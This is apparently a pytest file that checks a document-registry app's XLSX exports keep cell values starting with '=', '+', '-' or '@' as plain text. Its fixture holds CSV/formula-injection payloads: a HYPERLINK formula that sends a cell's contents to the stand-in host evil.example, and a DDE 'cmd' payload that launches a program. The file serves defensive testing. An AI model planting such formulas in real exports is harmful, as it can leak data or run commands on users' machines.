"""Every XLSX book writes text as text: an agency name, a subject or a sender that starts with "=",
"+", "-" or "@" is never a live formula in the office's spreadsheet."""

import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from docflow.core.timeutil import today

FORMULA = '=HYPERLINK("http://evil.example/?x="&A5,"Bấm vào đây")'


@pytest.fixture
def hostile(db, users):
    from docflow.incoming import services
    from docflow.registry import reference

    reference.update_agency({"name": FORMULA, "abbr": "UBND", "code": "000.00.00.H19"})
    services.register_incoming({"sender_name": "@SUM(1+1)", "number_symbol": "=1+2", "subject": "+cmd|' /C calc'!A0",
                                "issued_date": (today() - timedelta(days=2)).isoformat(),
                                "received_date": today().isoformat()}, actor=users["clerk"])
    db.session.commit()


@pytest.mark.parametrize("path", ["/books/incoming.xlsx", "/books/tracking.xlsx", "/books/outgoing.xlsx",
                                  "/books/postal.xlsx"])
def test_no_cell_is_a_formula(client, users, login_as, hostile, path):
    login_as(users["clerk"])
    response = client.get(path)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    ws = load_workbook(io.BytesIO(response.data)).active
    assert ws["A1"].value == FORMULA.upper()
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert cells
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert not formulas
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
    if path in ("/books/incoming.xlsx", "/books/tracking.xlsx"):
        texts = {cell.value for cell in cells}
        assert any("=1+2" in str(t) for t in texts)


def test_write_xlsx_keeps_every_kind_of_text_as_text():
    from docflow.registry.books import write_xlsx

    class Book:
        agency = "=1+1"
        title = "-2+3"
        subtitle = "@SUM(A1)"
        columns = ["=A1", "Trích yếu"]
        widths = [10, 20]
        date_columns = ()
        rows = [["+1", "=HYPERLINK(\"x\")"]]

    ws = load_workbook(io.BytesIO(write_xlsx(Book, "Sổ"))).active
    for coordinate, value in (("A1", "=1+1"), ("A2", "-2+3"), ("A3", "@SUM(A1)"), ("A4", "=A1"), ("A5", "+1"),
                              ("B5", '=HYPERLINK("x")')):
        assert ws[coordinate].value == value and ws[coordinate].data_type == "s", coordinate
